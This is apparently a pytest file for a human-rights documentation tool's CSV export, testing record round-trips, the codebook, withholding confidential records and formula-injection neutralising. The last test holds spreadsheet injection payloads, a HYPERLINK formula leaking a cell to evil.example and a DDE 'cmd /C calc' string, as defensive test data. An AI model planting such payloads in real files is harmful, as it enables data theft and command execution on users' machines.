"""CSV export: the acceptance set is read back file by file and checked against every record,
and every column is explained by the codebook."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from fielddoc.records import schema, vocab
from fielddoc.records.csv_export import CODEBOOK, FORMULA_START, SEP, export_csv, neutralise

DATE_KEYS = {"value", "precision", "is_estimate"}


def read(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name}: no UTF-8 BOM"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def header(path: Path) -> list[str]:
    return next(csv.reader(path.read_text("utf-8-sig").splitlines()))


def cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return json.dumps(value)
    if isinstance(value, str):
        return neutralise(value)
    return json.dumps(value, ensure_ascii=False, sort_keys=True, separators=(",", ":"))


def split(joined: str) -> list[str]:
    """Undo the documented list encoding: ' | ' between items, '\\|' and '\\\\' inside."""
    if joined.lstrip("'").startswith(FORMULA_START):  # the documented formula guard
        joined = joined[1:]
    items, cur, i = [], "", 0
    while i < len(joined):
        if joined[i] == "\\" and i + 1 < len(joined):
            cur += joined[i + 1]
            i += 2
        elif joined.startswith(SEP, i):
            items.append(cur)
            cur, i = "", i + len(SEP)
        else:
            cur += joined[i]
            i += 1
    return [*items, cur] if joined else []


class Checker:
    """Walks a JSON record the way docs/csv-format.md describes and finds every leaf in the files."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.files: dict[str, list[dict[str, str]]] = {}
        book = read(folder / CODEBOOK)
        self.json_columns = {(r["file"], r["column"]) for r in book if r["type"] == "JSON text"}
        self.child_files = {(r["file"], r["column"].removesuffix("[]")) for r in book
                            if r["column"].endswith("[]")}
        self.checked = 0

    def rows(self, name: str) -> list[dict[str, str]]:
        if name not in self.files:
            self.files[name] = read(self.folder / f"{name}.csv")
        return self.files[name]

    def record(self, kind: str, doc: dict[str, Any]) -> None:
        main = schema.KEYS[kind]
        if "id" in doc:
            found = [r for r in self.rows(main) if r["id"] == doc["id"]]
        else:  # link records without an id
            found = [r for r in self.rows(main) if all(r.get(k) == cell(doc.get(k)) for k in
                                                       ("subject_id", "object_id", "role", "from_id", "to_id",
                                                        "type") if k in doc)]
        assert len(found) == 1, f"{kind} {doc.get('id')}: {len(found)} rows"
        self.obj(main, kind, found[0], doc, "", {f"{kind}_id": doc.get("id", "")})

    def obj(self, table: str, kind: str, row: dict[str, str], doc: dict[str, Any], prefix: str,
            keys: dict[str, str]) -> None:
        for k, v in doc.items():
            path = prefix + k
            if (f"{table}.csv", path) in self.json_columns:
                assert json.loads(row[path]) == v, path
            elif isinstance(v, dict) and set(v) <= DATE_KEYS and "value" in v:
                assert row[path] == cell(v["value"]), path
                if "precision" in v:
                    assert row[f"{path}.precision"] == v["precision"], path
                assert row[f"{path}.is_estimate"] == cell(v.get("is_estimate")), path
            elif isinstance(v, dict):
                self.obj(table, kind, row, v, path + ".", keys)
            elif isinstance(v, list) and (any(isinstance(i, dict) for i in v) or
                                          (f"{table}.csv", path) in self.child_files):
                self.children(table, kind, path, v, keys)
            elif isinstance(v, list):
                assert split(row[path]) == [cell(i) for i in v], path
            else:
                assert row[path] == cell(v), path
            self.checked += 1

    def children(self, table: str, kind: str, path: str, items: list[Any], keys: dict[str, str]) -> None:
        flat = path.replace(".", "_")
        name = f"{kind}_{flat}" if table == schema.KEYS[kind] else f"{table}_{flat}"
        index = path.rsplit(".", 1)[-1] + "_index"
        mine = [r for r in self.rows(name) if all(r[k] == val for k, val in keys.items())]
        assert len(mine) == len(items), f"{name}: {len(mine)} rows for {len(items)} items"
        for i, item in enumerate(items):
            row = next(r for r in mine if r[index] == str(i))
            if isinstance(item, dict):
                self.obj(name, kind, row, item, "", {**keys, index: str(i)})
            else:
                assert row["value"] == cell(item)


@pytest.fixture
def exported(loaded, tmp_path) -> tuple[Path, list[Path]]:
    folder = tmp_path / "csv"
    return folder, export_csv(loaded, folder)


def _shown(acceptance: dict, key: str) -> list[dict]:
    """Records that may be exported: not device-only, and no link to a device-only record."""
    hidden = {d.get("id") for k in schema.KINDS for d in acceptance.get(k) or []
              if schema.effective_confidentiality(d) == "device_only"}
    return [d for d in acceptance.get(key) or [] if schema.effective_confidentiality(d) != "device_only"
            and not any(d.get(end) in hidden for end in ("subject_id", "object_id", "from_id", "to_id"))]


def test_every_record_is_in_its_file(exported, acceptance):
    folder, paths = exported
    checker = Checker(folder)
    n = 0
    for key, kind in schema.KINDS.items():
        for doc in _shown(acceptance, key):
            checker.record(kind, doc)
            n += 1
        assert len(checker.rows(schema.KEYS[kind])) == len(_shown(acceptance, key))
    # every record but the three device-only ones and the one link to them
    assert n == 107 - 4 and checker.checked > 700
    # nothing else: the device-only records are not anywhere
    blob = "".join(p.read_text("utf-8-sig") for p in paths)
    for secret in ("ANON-001", "per-anon-001", "inc-attempted-abduction-abroad", "src-anon-witness-001",
                   "Interview with eyewitness W-07"):
        assert secret not in blob


def test_codebook_explains_every_column_and_code(exported):
    folder, paths = exported
    book = read(folder / CODEBOOK)
    assert header(folder / CODEBOOK) == ["file", "column", "record_type", "type", "meaning", "vocabulary",
                                         "codes"]
    described = {(r["file"], r["column"]): r for r in book}
    assert len(described) == len(book), "a column is described twice"
    files = {p.name for p in paths} - {CODEBOOK}
    assert {r["file"] for r in book} == files
    for name in files:
        cols = header(folder / name)
        assert len(cols) == len(set(cols)), name
        for col in cols:
            entry = described.get((name, col))
            assert entry is not None, f"{name}: {col} is not in the codebook"
            assert entry["meaning"] and entry["type"] and entry["record_type"] in schema.KINDS.values()
    assert len(book) == sum(len(header(folder / n)) for n in files)
    # closed vocabularies list every code with its English label, and every value is one of them
    for entry in book:
        if entry["type"] in ("code", "codes joined with ' | '") and entry["codes"]:
            codes = {c.split(" = ", 1)[0] for c in entry["codes"].split(SEP)}
            name = entry["vocabulary"].split(" ")[0]
            assert codes == set(vocab.VOCABS[name]), entry["column"]
            for row in read(folder / entry["file"]):
                values = split(row[entry["column"]]) if "joined" in entry["type"] else [row[entry["column"]]]
                for v in values:
                    assert v == "" or v in codes or vocab.is_huridocs_code(v), (entry["column"], v)
    ft = described[("hearing_fair_trial.csv", "answer")]
    assert ft["vocabulary"] == "ft_answer" and "partly = Partly" in ft["codes"]
    extra = described[("hearings.csv", "public_access.notes")]
    assert extra["meaning"].startswith("Not in the FieldDoc schema")
    assert described[("hearing_fair_trial.csv", "hearing_id")]["type"] == "key"


def test_layout_is_stable_and_pivotable(exported):
    folder, _ = exported
    ft = read(folder / "hearing_fair_trial.csv")
    assert header(folder / "hearing_fair_trial.csv")[:4] == ["hearing_id", "fair_trial_index", "item",
                                                             "answer"]
    first = next(r for r in ft if r["hearing_id"] == "hrg-zh-2012-03-28" and r["fair_trial_index"] == "0")
    assert first["item"] == "ft.public.public_admitted" and first["answer"] == "partly"
    assert first["group"] == "B" and first["group_label"] == "Public hearing"
    assert first["expected_answer"] == "yes"
    hearings = read(folder / "hearings.csv")
    h = next(r for r in hearings if r["id"] == "hrg-zh-2012-03-28")
    assert h["date"] == "2012-03-28" and h["date.precision"] == "day"
    assert h["public_access.status"] == "restricted"
    assert h["language"] == "ru | kk" and h["public_access.overflow_room"] == "true"
    cases = read(folder / "cases.csv")
    assert next(r for r in cases if r["id"] == "case-kozlov")["opened"] == "2012-08-16"
    acts = read(folder / "incident_acts.csv")
    assert {r["incident_id"] for r in acts} == {"inc-zhanaozen-2011-12-16", "inc-stantv-attack-2011-10-26",
                                                "inc-golos-search-2012-12"}
    # files for every record type and every documented list, even when empty
    assert (folder / "interventions.csv").exists() and (folder / "hearing_witnesses.csv").exists()
    assert read(folder / "hearing_witnesses.csv") == []
    assert "witnesses_index" in header(folder / "hearing_witnesses.csv")


def test_device_only_and_contact_only_when_included(loaded, tmp_path):
    doc = loaded.get("per-plugov")
    loaded.update("per-plugov", {**doc, "contact": {"phone": "+7 701 555 0199"},
                                 "other_names": ["Plugov | A.", "back\\slash"]})
    export_csv(loaded, tmp_path / "a")
    persons = read(tmp_path / "a" / "persons.csv")
    plugov = next(r for r in persons if r["id"] == "per-plugov")
    assert plugov["contact"] == "" and "+7 701" not in (tmp_path / "a" / "persons.csv").read_text("utf-8-sig")
    assert split(plugov["other_names"]) == ["Plugov | A.", "back\\slash"]
    export_csv(loaded, tmp_path / "b", include_device_only=True, include_contact=True)
    persons = read(tmp_path / "b" / "persons.csv")
    plugov = next(r for r in persons if r["id"] == "per-plugov")
    assert json.loads(plugov["contact"]) == {"phone": "+7 701 555 0199"}
    assert any(r["id"] == "per-anon-001" for r in persons)
    incidents = read(tmp_path / "b" / "incidents.csv")
    assert any(r["confidentiality"] == "device_only" for r in incidents)


def test_cli_export_csv_warns_and_refuses_to_overwrite(tmp_path):
    import os
    import subprocess
    import sys

    from tests.conftest import ACCEPTANCE, PASSPHRASE

    root = Path(__file__).resolve().parent.parent
    env = {**os.environ, "FIELDDOC_PASSPHRASE": PASSPHRASE, "FIELDDOC_LANG": "en"}

    def run(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "tests.helpers.cheap_cli", *args], cwd=root, env=env,
                              text=True,
                              capture_output=True, timeout=120)

    v = str(tmp_path / "vault")
    assert run("init", "--vault", v).returncode == 0  # cheap Argon2id: tests/helpers/cheap_cli.py
    assert run("import-json", "--vault", v, str(ACCEPTANCE)).returncode == 0
    out = tmp_path / "out"
    r = run("export-csv", "--vault", v, str(out))
    assert r.returncode == 0 and "NOT encrypted" in r.stderr and (out / "codebook.csv").exists()
    r = run("export-csv", "--vault", v, str(out))
    assert r.returncode == 2 and "--force" in r.stderr
    assert run("export-csv", "--vault", v, str(out), "--force").returncode == 0


# -- F7: formula injection ----------------------------------------------------------------------
def test_text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_numbers(rec, tmp_path):
    rec.create("location", {"id": "loc-x", "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
                            "admin1": "@SUM(1+1)*cmd|' /C calc'!A0", "lat": -5, "lon": -0.25,
                            "precision": "-2+3", "notes": "\tTAB", "tz": "Asia/Aqtau",
                            "iso3166_2": "KZ-47", "country": "KZ"})
    rec.create("person", {"id": "per-x", "name": "+7 701 555 0199", "other_names": ["-1", "ok"],
                          "occupation": "\r=1+1", "notes": "'=already quoted"})
    rec.create("person", {"id": "per-y", "name": "'Armand' and plain text", "other_names": ["a-b", "=c"],
                          "occupation": "a=b", "notes": "5 - 3"})
    export_csv(rec, tmp_path / "csv")
    loc = next(r for r in read(tmp_path / "csv" / "locations.csv") if r["id"] == "loc-x")
    assert loc["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert loc["admin1"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert loc["precision"] == "'-2+3" and loc["notes"] == "'\tTAB"
    assert loc["lat"] == "-5" and loc["lon"] == "-0.25"  # true numbers are left as numbers
    people = {r["id"]: r for r in read(tmp_path / "csv" / "persons.csv")}
    x, y = people["per-x"], people["per-y"]
    assert x["name"] == "'+7 701 555 0199" and x["occupation"] == "'\r=1+1"
    assert x["other_names"] == "'-1 | ok"  # a list cell is text: its first item decides
    assert x["notes"] == "''=already quoted"  # so that stripping one quote gives the text back
    assert y["name"] == "'Armand' and plain text" and y["other_names"] == "a-b | =c"
    assert y["occupation"] == "a=b" and y["notes"] == "5 - 3"
    for row in (loc, x, y):  # the documented rule undoes it
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value in ("-5", "-0.25")
